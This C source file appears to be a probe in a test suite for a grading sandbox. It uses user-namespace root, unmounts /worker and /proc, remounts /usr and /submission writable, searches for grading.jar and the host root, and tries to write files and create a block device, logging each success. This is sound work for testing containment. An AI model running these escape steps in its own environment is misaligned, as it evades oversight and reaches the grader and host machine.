/* Becomes root in a user namespace of its own and takes the walls down: unmounts what hides the worker, mounts over
   it, looks for the machine behind its parents' roots. Then it serves nobody: what counts is what it finds. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void effect(const char *words) {
  printf("EFFECT @MARK@ climbs-out %s\n", words);
  fflush(stdout);
}

static void exists(const char *path) {
  struct stat found;
  if (stat(path, &found) == 0) {
    effect(path);
  }
}

static void put(const char *path, const char *words) {
  int file = open(path, O_WRONLY);
  if (file >= 0) {
    if (write(file, words, __builtin_strlen(words)) < 0) {
      perror(path);
    }
    close(file);
  }
}

int main(void) {
  alarm(30);
  unsigned uid = getuid();
  unsigned gid = getgid();
  if (uid == 0) {
    effect("is root"); /* without walls it would take the machine's own mounts: it does not */
    return 0;
  }
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) == 0) {
    char map[64];
    put("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %u 1", uid);
    put("/proc/self/uid_map", map);
    snprintf(map, sizeof map, "0 %u 1", gid);
    put("/proc/self/gid_map", map);
  }
  umount2("/worker", MNT_DETACH);
  umount2("/proc", MNT_DETACH);
  umount2("/", MNT_DETACH);
  mount("none", "/usr", NULL, MS_REMOUNT | MS_BIND, NULL);
  mount("none", "/submission", NULL, MS_REMOUNT | MS_BIND, NULL);
  exists("/worker/grading.jar");
  exists("@HOST@");
  exists("@CLASS@");
  exists("/proc/1/root@HOST@");
  exists("/proc/self/root/../..@HOST@");
  if (open("/usr/effect-climbs-out", O_CREAT | O_WRONLY, 0644) >= 0) {
    effect("wrote into /usr");
  }
  if (open("/submission/effect-climbs-out", O_CREAT | O_WRONLY, 0644) >= 0) {
    effect("wrote into /submission");
  }
  if (mknod("disk", S_IFBLK | 0600, 0x800) == 0) {
    effect("made a device");
  }
  puts("tried everything");
  return 0;
}
